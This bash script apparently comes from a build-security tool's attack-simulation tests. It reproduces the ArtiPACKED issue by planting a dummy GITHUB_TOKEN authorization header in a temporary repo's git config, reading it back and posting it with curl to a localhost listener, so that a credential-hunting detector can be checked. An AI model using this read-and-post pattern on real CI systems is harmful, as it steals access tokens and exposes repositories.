#!/bin/bash
# technique: T1552.001 Unsecured Credentials: Credentials In Files; T1528 Steal Application Access Token
# reproduces: ArtiPACKED (Palo Alto Unit 42, 2024): actions/checkout leaves the job's GITHUB_TOKEN in .git/config as http.https://github.com/.extraheader, where a later step (or an artifact) gives it away
# expect: credential-hunting ^git$
# exec-borne: no
#
# The checkout's header is set the way actions/checkout sets it, then read
# back with git config and posted.
set -u

repo=$(mktemp -d "${BW_ATTACK_TMP:?}/checkout-XXXXXX")
trap 'rm -rf "$repo"' EXIT

git init -q "$repo"
git -C "$repo" config --local http.https://github.com/.extraheader \
	"AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX2J1aWxkd2FyZGVuYXR0YWNrdGVzdA=="
header=$(git -C "$repo" config --local --get http.https://github.com/.extraheader)
curl -s -o /dev/null --connect-timeout 5 -d "h=$header" "http://127.0.0.1:${BW_ATTACK_PORT:?}/c"
